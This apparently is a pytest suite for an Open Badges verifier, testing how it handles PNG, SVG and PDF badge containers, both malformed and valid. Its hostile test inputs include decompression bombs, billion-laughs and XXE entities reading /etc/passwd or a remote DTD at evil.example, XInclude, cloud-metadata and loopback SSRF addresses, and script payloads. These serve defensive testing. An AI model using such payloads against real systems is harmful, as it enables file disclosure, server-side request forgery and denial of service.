"""Pictures and PDFs that carry a badge, too much of it, two, or none."""

from __future__ import annotations

import io
import json
import zlib
from collections.abc import Callable
from typing import Any

import pytest

from credlens.app.bench.badges.world import dumps
from credlens.model.verification import Mode

SIGNATURE = b"\x89PNG\r\n\x1a\n"
KEYWORD, EARLY = b"openbadgecredential", b"openbadges"
ADDRESS = b"https://academy.example/ob2/assertions/1"
INVALID, WORK = ("INVALID", "container"), ("COULD_NOT_CHECK", "work")
OB3, OB2 = "https://purl.imsglobal.org/ob/v3p0", "http://openbadges.org"
SVG = "http://www.w3.org/2000/svg"


def chunk(kind: bytes, content: bytes, crc: int | None = None) -> bytes:
    check = zlib.crc32(kind + content) if crc is None else crc
    return len(content).to_bytes(4, "big") + kind + content + check.to_bytes(4, "big")


HEADER = chunk(b"IHDR", (1).to_bytes(4, "big") * 2 + b"\x08\x00\x00\x00\x00")
IMAGE = chunk(b"IDAT", zlib.compress(b"\0\0"))
END = chunk(b"IEND", b"")


def png(*chunks: bytes, header: bytes = HEADER, after: bytes = b"") -> bytes:
    return SIGNATURE + header + b"".join(chunks) + IMAGE + END + after


def baked(text: Any, keyword: bytes = KEYWORD, *, packed: bool = False, method: int = 0) -> bytes:
    content = text.encode() if isinstance(text, str) else text
    content = zlib.compress(content) if packed else content
    return chunk(b"iTXt", keyword + bytes([0, int(packed), method]) + b"\0\0" + content)


def early(text: bytes) -> bytes:
    return chunk(b"tEXt", EARLY + b"\0" + text)


def bomb(size: int) -> bytes:
    """A text of blanks, packed to a thousandth."""
    return baked(b" " * size, packed=True)


def cut(picture: bytes, by: int) -> bytes:
    return picture[:-by]


Case = tuple[str, Callable[[Any], bytes], tuple[str, str]]
PNGS: list[Case] = [
    ("a packed badge of two mebibytes of blanks", lambda s: png(bomb(2 * 2**20)), WORK),
    ("a packed badge of 40 mebibytes", lambda s: png(bomb(40 * 2**20)), WORK),
    ("an unpacked badge of two mebibytes", lambda s: png(baked(b" " * 2 * 2**20)), WORK),
    ("11,000 empty parts", lambda s: png(chunk(b"teSt", b"") * 11_000), WORK),
    ("a wrong checksum", lambda s: png(chunk(b"iTXt", baked(s.token())[8:-4], crc=1)), INVALID),
    ("two badges", lambda s: png(baked(s.token()), baked(s.token())), INVALID),
    ("two badges, one for each version", lambda s: png(baked(s.token()), early(ADDRESS)), INVALID),
    ("the same badge twice, once packed", lambda s: png(baked(s.token()), baked(s.token(), packed=True)), INVALID),
    ("a second badge behind the end", lambda s: png(baked(s.token()), after=baked(s.token())), INVALID),
    ("a badge only behind the end", lambda s: png(after=baked(s.token())), INVALID),
    ("a second badge in a second picture behind it", lambda s: png(baked(s.token())) + png(baked("x")), INVALID),
    ("no end", lambda s: cut(png(baked(s.token())), 12), INVALID),
    ("cut off in the badge", lambda s: png(baked(s.token()))[:200], INVALID),
    ("a length of almost four gibibytes", lambda s: SIGNATURE + HEADER + b"\xff\xff\xff\xf0iTXt" + b"x" * 99, INVALID),
    ("no header", lambda s: SIGNATURE + baked(s.token()) + END, INVALID),
    ("two headers", lambda s: png(HEADER, baked(s.token())), INVALID),
    ("packed text that is none", lambda s: png(chunk(b"iTXt", KEYWORD + b"\0\1\0\0\0not zlib")), INVALID),
    ("packed text with something behind it", lambda s: png(
        chunk(b"iTXt", KEYWORD + b"\0\1\0\0\0" + zlib.compress(s.token().encode()) + b"more")), INVALID),
    ("an unknown way of packing", lambda s: png(baked(s.token(), packed=True, method=9)), INVALID),
    ("no badge", lambda s: png(), INVALID),
    ("a keyword in capitals", lambda s: png(baked(s.token(), keyword=b"OpenBadgeCredential")), INVALID),
    ("an empty badge", lambda s: png(baked("")), INVALID),
    ("an address where only version 2 has one", lambda s: png(baked(ADDRESS)), INVALID),
    ("a path of this machine", lambda s: png(early(b"/etc/passwd")), INVALID),
    ("a file: address", lambda s: png(early(b"file:///etc/passwd")), INVALID),
    ("a data: address", lambda s: png(early(b'data:application/json,{"type":"Assertion"}')), INVALID),
    ("an address of 3,000 letters", lambda s: png(early(b"https://a.example/" + b"x" * 3_000)), INVALID),
    ("an address inside a network", lambda s: png(early(b"http://169.254.169.254/badge")),
     ("COULD_NOT_CHECK", "container")),
]  # fmt: skip


def svg(inner: str, start: str = "", root: str = f'<svg xmlns="{SVG}"') -> bytes:
    return f"{start}{root}>{inner}</svg>".encode()


def element(verify: str | None = None, text: str = "", ns: str = OB3, name: str = "credential", p: str = "ob") -> str:
    attribute = "" if verify is None else f' verify="{verify}"'
    return f'<{p}:{name} xmlns:{p}="{ns}"{attribute}>{text}</{p}:{name}>'


def cdata(badge: Any) -> str:
    return f"<![CDATA[{json.dumps(badge)}]]>"


LAUGHS = (
    '<!DOCTYPE svg [<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 12)) + "]>"
)
FILE = '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
REMOTE = '<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;]>'
DEFAULTS = f'<!DOCTYPE svg [<!ATTLIST svg xmlns CDATA "{SVG}">]>'
INCLUDED = '<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
SVGS: list[Case] = [
    ("entities in entities", lambda s: svg(element("&a11;"), LAUGHS), INVALID),
    ("an entity that is a file", lambda s: svg(element("&x;"), FILE), INVALID),
    ("an entity from elsewhere", lambda s: svg(element(s.token()), REMOTE), INVALID),
    ("attributes by default", lambda s: svg(element(s.token()), DEFAULTS), INVALID),
    ("an included file in the badge", lambda s: svg(element(None, INCLUDED)), INVALID),
    ("two badges", lambda s: svg(element(s.token()) * 2), INVALID),
    ("two badges, one for each version", lambda s: svg(
        element(s.token()) + element(ADDRESS.decode(), ns=OB2, name="assertion")), INVALID),
    ("a badge in a badge", lambda s: svg(element(None, element(s.token()))), INVALID),
    ("a token beside other JSON", lambda s: svg(element(s.token(), cdata(s.text_signed()))), INVALID),
    ("the right name in a wrong namespace", lambda s: svg(element(s.token(), ns="https://evil.example/")), INVALID),
    ("the right prefix and no such namespace", lambda s: svg(f'<openbadges:credential verify="{s.token()}"/>'), INVALID),
    ("no badge", lambda s: svg("<script>alert(1)</script>"), INVALID),
    ("60,000 elements", lambda s: svg(element(s.token()) + "<g/>" * 60_000), WORK),
    ("a badge of two mebibytes", lambda s: svg(element(None, " " + "{" * 2 * 2**20)), WORK),
    ("not the end of it", lambda s: svg(element(s.token()))[:-3], INVALID),
    ("an address inside a network", lambda s: svg(element("http://127.0.0.1/badge", ns=OB2, name="assertion")),
     ("COULD_NOT_CHECK", "container")),
    ("a javascript: address", lambda s: svg(element("javascript:alert(1)", ns=OB2, name="assertion")), INVALID),
    ("an address where only version 2 has one", lambda s: svg(element(ADDRESS.decode())), INVALID),
]  # fmt: skip


def pdf(*attached: tuple[str, bytes], password: str = "") -> bytes:
    from pypdf import PdfWriter

    writer, out = PdfWriter(), io.BytesIO()
    writer.add_blank_page(100, 100)
    for name, content in attached:
        writer.add_attachment(name, content)
    if password:
        writer.encrypt(password, algorithm="RC4-128")
    writer.write(out)
    return out.getvalue()


def packed_bomb() -> bytes:
    """A PDF with an attached file that is packed to a thousandth."""
    content = zlib.compress(b" " * 20 * 2**20)
    plain = pdf(("badge.json", b"MARK"))
    return plain.replace(b"/Length 4", b"/Filter /FlateDecode\n/Length %d" % len(content)).replace(b"MARK", content)


PDFS: list[Case] = [
    ("two badges", lambda s: pdf(("a.jwt", s.token().encode()), ("b.json", dumps(s.text_signed()))), INVALID),
    ("no badge", lambda s: pdf(("a.txt", b"Hello")), INVALID),
    ("no attached file", lambda s: pdf(), INVALID),
    ("60 attached files", lambda s: pdf(*((f"{i}.txt", b"x") for i in range(60))), WORK),
    ("an attached file packed to a thousandth", lambda s: packed_bomb(), WORK),
    ("a password", lambda s: pdf(("a.jwt", s.token().encode()), password="secret"), INVALID),  # noqa: S106 - of a made-up file
    ("only its first line", lambda s: b"%PDF-1.7\n", INVALID),
    ("cut off", lambda s: pdf(("a.jwt", s.token().encode()))[:400], INVALID),
    ("a picture with two badges in it", lambda s: pdf(("a.png", png(baked(s.token()) * 2))), INVALID),
    ("deep JSON", lambda s: pdf(("a.json", b"[" * 100_000)), WORK),
]  # fmt: skip
CASES = [
    (f"{kind}: {name}", *rest) for kind, cases in (("png", PNGS), ("svg", SVGS), ("pdf", PDFS)) for name, *rest in cases
]
IDS = [case[0] for case in CASES]


@pytest.mark.parametrize("mode", Mode)
@pytest.mark.parametrize(("build", "found"), [case[1:] for case in CASES], ids=IDS)
def test_a_picture_that_holds_no_one_badge_is_refused_by_either_rules(
    judged: Any, build: Any, found: tuple[str, str], mode: Mode
) -> None:
    judged(build, *found, "not_checked" if found == ("COULD_NOT_CHECK", "container") else "failed", mode)


SOUND: list[tuple[str, Callable[[Any], bytes]]] = [
    ("png", lambda s: png(baked(s.token()))),
    ("png, packed", lambda s: png(baked(s.token(), packed=True))),
    ("png, JSON", lambda s: png(baked(dumps(s.text_signed()), packed=True))),
    ("png, as wide and high as can be written", lambda s: png(
        baked(s.token()), header=chunk(b"IHDR", b"\x7f\xff\xff\xff" * 2 + b"\x10\x06\x00\x00\x00"))),
    ("png, with pixels that cannot be unpacked", lambda s: png(chunk(b"IDAT", b"x" * 100_000), baked(s.token()))),
    ("png, with other texts", lambda s: png(chunk(b"tEXt", b"Comment\0openbadge"), baked(s.token()))),
    ("svg", lambda s: svg(element(s.token()))),
    ("svg, JSON", lambda s: svg(element(None, cdata(s.text_signed())))),
    ("svg, another prefix", lambda s: svg(element(s.token(), p="x"))),
    ("svg, with a program and things from elsewhere", lambda s: svg(
        '<script>alert(1)</script><image href="https://evil.example/a.png" onload="alert(2)"/>' + INCLUDED
        + element(s.token()))),
    ("svg, with the document type of drawing programs", lambda s: svg(element(s.token()), (
        '<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
        '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'))),
    ("pdf", lambda s: pdf(("badge.jwt", s.token().encode()), ("terms.txt", b"Terms"))),
    ("pdf, with the picture", lambda s: pdf(("badge.png", png(baked(s.token()))))),
]  # fmt: skip


@pytest.mark.parametrize(("name", "build"), SOUND, ids=[s[0] for s in SOUND])
def test_a_picture_with_one_badge_is_read_and_nothing_else_in_it_is(
    stage: Any, judged: Any, name: str, build: Any
) -> None:
    report = judged(build, "VERIFIED", "container", "passed")
    assert report.container == name[:3]
    assert [need.url for need in stage.asked] == ["https://academy.example/.well-known/did.json"]
